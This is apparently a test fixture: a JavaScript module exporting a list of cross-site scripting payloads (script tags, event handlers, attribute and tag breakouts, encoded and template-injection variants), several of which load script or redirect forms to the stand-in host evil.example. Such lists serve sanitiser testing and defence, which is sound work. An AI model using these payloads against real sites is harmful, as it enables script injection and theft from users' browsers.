// Ways to get markup or script into a page that forgets to escape, once each: text, attributes of
// both quotes, truncated tags, other encodings, addresses, templates, and what browsers repair.
export const strings = [
    '<script>alert(1)</script>', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)>', '<svg/onload=alert(1)>', '<body onload=alert(1)>', '<iframe srcdoc="<script>alert(1)</script>">',
    '<iframe src=javascript:alert(1)>', '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<details open ontoggle=alert(1)>', '<video><source onerror=alert(1)></video>', '<audio src=x onerror=alert(1)>',
    '<input autofocus onfocus=alert(1)>', '<select autofocus onfocus=alert(1)>', '<marquee onstart=alert(1)>',
    '<object data=javascript:alert(1)>', '<embed src=javascript:alert(1)>', '<link rel=stylesheet href=//evil.example>',
    '<style>*{background:url(//evil.example)}</style>', '<base href=//evil.example>', '<meta http-equiv=refresh content=0>',
    '<form action=//evil.example><button>x', '<a href=javascript:alert(1)>x</a>', '</title><script>alert(1)</script>',
    '</p></main><script>alert(1)</script>', '</textarea><script>alert(1)</script>', '</style><script>alert(1)</script>',
    '"><script>alert(1)</script>', '\'><script>alert(1)</script>', '" onfocus=alert(1) autofocus x="', '\' onfocus=alert(1) autofocus x=\'',
    '" onmouseover="alert(1)', '` onmouseover=alert(1)', '"><img src=x onerror=alert(1)>', '"/><svg onload=alert(1)>',
    '<<script>alert(1)//<</script>', '<scr<script>ipt>alert(1)</scr</script>ipt>', '<img src=x onerror=alert(1)',
    '<img """><script>alert(1)</script>">', '<script\u00a0>alert(1)</script>', '<script/x>alert(1)</script>',
    '<img/src=x/onerror=alert(1)>', '<!--><script>alert(1)</script>-->', '<![CDATA[<script>alert(1)</script>]]>',
    '<?xml version="1.0"?><script>alert(1)</script>', '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;script&#62;alert(1)&#60;/script&#62;',
    '&#x3c;img src=x onerror=alert(1)&#x3e;', '%3Cscript%3Ealert(1)%3C/script%3E', '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
    '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-', '{{constructor.constructor("alert(1)")()}}',
    '${alert(1)}', '<%= alert(1) %>', 'javascript:alert(1)', 'data:text/html,<script>alert(1)</script>', '<x onclick=alert(1)>x',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<template><script>alert(1)</script></template>',
];
